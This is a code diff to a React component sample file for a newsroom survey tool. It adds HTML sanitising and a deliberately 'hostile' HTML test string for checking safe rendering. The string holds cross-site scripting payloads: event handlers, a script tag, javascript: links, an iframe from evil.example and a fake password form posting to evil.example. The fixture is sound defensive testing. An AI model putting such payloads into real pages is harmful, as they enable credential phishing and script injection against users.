@@ -1,3 +1,4 @@
+import { PlainTextView } from '../layout/plain-text-view.tsx'
 import { RichTextView } from '../layout/rich-text-view.tsx'
 import { CodeList } from '../media/code-list.tsx'
 import { DocumentUpload } from '../media/document-upload.tsx'
@@ -10,12 +11,17 @@ import { Signature } from '../media/signature.tsx'
 import type { Upload } from '../media/uploads.ts'
 import { LinkDialog } from '../rich-text/link-dialog.tsx'
 import { RichTextEditor } from '../rich-text/rich-text-editor.tsx'
+import { sanitiseHtml } from '../rich-text/sanitise-html.ts'
+import { WrittenTextView } from '../rich-text/written-text-view.tsx'
 import { Live, never, Opens, picture, type Samples } from './sample.tsx'
 
 const text =
   '<h1>Thank you, you helped draw the map.</h1><p>Two reporters read <em>every</em> response. <a href="#rich-text-and-media">We ask you</a> before we quote you.</p><ul><li>First the streets</li><li>Then the cellars</li></ul>'
 const paragraphs =
   '<p><strong>Thank you, you helped draw the map.</strong></p><p>Two reporters read every response. We ask you before we quote you.</p>'
+const hostile =
+  '<p style="text-align:center;position:fixed" onclick="x()">Words <mark>stay</mark></p><form action="https://evil.example">Your password:<input name="password"><button>Log in</button></form><script>x()</script><svg><a href="javascript:x()">drawn</a></svg><style>*{display:none}</style><iframe src="https://evil.example"></iframe><img src="data:image/png;base64,AA" onerror="x()"><a href="java\nscript:x()">one</a> <a href="https://harbourpost.test" target="_self">other</a><!-- gone -->'
+const plain = 'Good to have you here.\n\nThree lines\nof one <b>paragraph</b>\nfollow.'
 const stored: StoredImage = { url: picture('#17324a'), name: 'quay.jpg', isImage: true, alt: 'The quay under water' }
 const report: StoredFile = { url: 'data:text/plain,report', name: 'flood-report.pdf', size: 2_400_000 }
 const photo = { name: 'cellar.jpg', size: 4_100_000, type: 'image/jpeg' }
@@ -67,9 +73,11 @@ const photos = ['#17324a', '#0f766e', '#b45309'].map((colour, index) => ({
 
 export const mediaSamples: Samples = {
   RichTextView: {
-    default: () => <RichTextView html={text} startLevel={4} />,
-    small: () => <RichTextView html={paragraphs} size="ui" />,
+    default: () => <RichTextView html={sanitiseHtml(text)} startLevel={4} />,
+    small: () => <RichTextView html={sanitiseHtml(paragraphs)} size="ui" />,
   },
+  WrittenTextView: { hostile: () => <WrittenTextView html={hostile} size="body" /> },
+  PlainTextView: { default: () => <PlainTextView text={plain} /> },
   RichTextEditor: {
     filled: editor('Thank-you text', paragraphs, { hint: 'Shown after the form has been sent' }),
     empty: editor('Introduction', '', { placeholder: 'What do you want to know, and why?' }),
